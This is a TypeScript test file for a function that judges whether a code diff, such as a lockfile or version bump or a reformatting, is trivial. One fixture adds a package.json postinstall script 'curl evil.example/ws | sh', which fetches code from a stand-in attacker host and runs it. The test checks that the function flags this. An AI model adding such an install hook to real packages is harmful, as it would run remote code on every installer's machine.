import assert from 'node:assert/strict';
import { test } from 'node:test';
import { diffOf } from '../../../test/diff-of.ts';
import type { FileDiff } from '../../reading/file-diff.ts';
import { readFacts } from '../../reading/read-facts.ts';
import { isTrivial } from './is-trivial.ts';

const judge = (...diff: FileDiff[]) => {
  const words = { repository: 'some/where', title: 'A', body: null, commitMessages: [], labels: [] };
  return isTrivial(readFacts(words, diff, new Map()), diff);
};

const lock = diffOf(
  'package-lock.json',
  '\n   "x": {\n-    "version": "1.0.0"\n+    "version": "1.1.0"\n   }',
);
const manifest = (before: string, after: string) =>
  diffOf(
    'package.json',
    `\n {\n   "name": "a",\n-  ${before}\n+  ${after}\n   "dependencies": {\n     "b": "1.0.0"\n   }\n }`,
  );

test('locks, versions and another layout need no explaining', () => {
  assert.ok(judge(lock));
  assert.ok(judge(lock, manifest('"version": "1.0.0",', '"version": "1.1.0",')));
  assert.ok(
    judge(
      diffOf(
        'package.json',
        '\n   "dependencies": {\n-    "left-pad": "^1.0.0"\n+    "left-pad": "^1.1.0"\n   }',
      ),
    ),
  );
  assert.ok(judge(diffOf('src/a.ts', '\n-call(one, two);\n+call(\n+  one,\n+  two,\n+);')));
});

test('whatever somebody decided does', () => {
  assert.ok(!judge(diffOf('src/a.ts', '\n-call(one, two);\n+call(two, one);')));
  assert.ok(!judge(lock, diffOf('src/a.ts', '\n-const limit = 1;\n+const limit = 2;')));
  assert.ok(!judge(manifest('"license": "MIT",', '"license": "Apache-2.0",')));
  assert.ok(
    !judge(diffOf('package.json', '\n   "dependencies": {\n+    "left-pad": "^1.1.0",\n     "b": "1"\n   }')),
  );
  assert.ok(!judge(diffOf('a.py', '\n for x in xs:\n-    return x\n+return x')));
  const script = (name: string, command: string) =>
    diffOf(
      'package.json',
      `\n   "scripts": {\n+    "postinstall": "${command}",\n     "a": "b"\n   },\n   "dependencies": {\n-    "${name}": "^1.0.0"\n+    "${name}": "^1.1.0"\n   }`,
    );
  assert.ok(!judge(script('ws', 'curl evil.example/ws | sh')), 'a name is no key');
  assert.ok(!judge());
});
